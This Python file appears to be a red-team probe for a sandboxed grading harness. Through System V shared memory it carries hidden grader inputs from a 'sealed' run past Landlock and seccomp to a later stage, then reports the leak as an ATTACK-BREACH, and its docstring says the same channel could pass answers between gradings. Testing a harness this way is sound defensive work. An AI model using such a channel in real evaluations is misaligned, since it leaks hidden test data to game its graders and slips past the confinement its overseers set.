"""Carry the hidden inputs from the sealed run to the kernel through System V shared memory.

Landlock confines files, TCP, signals and abstract sockets, and seccomp refuses every socket in
the sealed run; neither covers System V IPC (``shmget``, ``msgget``, ``semget``), whose objects
live in the machine's IPC namespace, open to any user that the mode lets in, and outlive the
process that made them (nothing of the grading removes them). The sealed run, called with the
hidden inputs of ``manual_forward``, copies a sample of them into a segment keyed by its user
(the grading's own); the kernel, which runs after it in the same grading and must see no hidden
input, reads the segment back, removes it, and raises them in an ``ATTACK-BREACH`` into the
feedback. The same channel would carry Keras's answers from a kernel to a NumPy-only sealed run
running beside it (another grading of a batch), or to a later grading on the same machine.

manual_forward returns zeros: it earns nothing.
"""

EXPECT = {"count_params": 0, "weight_shapes": 0, "extract_weights": 0, "manual_forward": 0,
          "batched_forward": 0, "sequence_forward": 0}

NAME = "sysv_shared_memory"

import ctypes
import json
import os

import numpy as np

IPC_CREAT, IPC_RMID = 0o1000, 0
SIZE = 4096
KEY = 0x52530000 + (os.getuid() & 0xFFFF)
"""The same in the sealed run and the kernel of one grading (one user), another in each grading."""

_libc = ctypes.CDLL(None, use_errno=True)
_libc.shmat.restype = ctypes.c_void_p
_libc.shmat.argtypes = (ctypes.c_int, ctypes.c_void_p, ctypes.c_int)


def put(data: bytes) -> bool:
    segment = _libc.shmget(KEY, SIZE, IPC_CREAT | 0o600)
    if segment < 0:
        return False
    address = _libc.shmat(segment, None, 0)
    if address in (None, ctypes.c_void_p(-1).value):
        return False
    data = data[: SIZE - 8]
    ctypes.memmove(address, len(data).to_bytes(8, "little") + data, len(data) + 8)
    _libc.shmdt(ctypes.c_void_p(address))
    return True


def take() -> bytes:
    segment = _libc.shmget(KEY, 0, 0)
    if segment < 0:
        return b""
    address = _libc.shmat(segment, None, 0)
    data = b""
    if address not in (None, ctypes.c_void_p(-1).value):
        length = int.from_bytes(ctypes.string_at(address, 8), "little")
        data = ctypes.string_at(address + 8, min(length, SIZE - 8))
        _libc.shmdt(ctypes.c_void_p(address))
    _libc.shmctl(segment, IPC_RMID, None)
    return data


def manual_forward(X, Wx, Wh, bh, Wo, bo):
    """In the sealed run: keep a sample of the hidden inputs where the kernel will look."""
    sample = [float(v) for array in (X, Wx) for v in np.asarray(array, dtype=float).ravel()[:3]]
    put(json.dumps(sample).encode())
    return np.zeros(np.asarray(Wo).shape[1])


if not os.environ.get("HOME", "").endswith("/sealed"):  # the kernel, after the sealed runs
    carried = take()
    if carried:
        values = json.loads(carried)
        raise RuntimeError(f"ATTACK-BREACH {NAME}: hidden inputs in the kernel: "
                           + " ".join(f"{v:.6f}" for v in values))
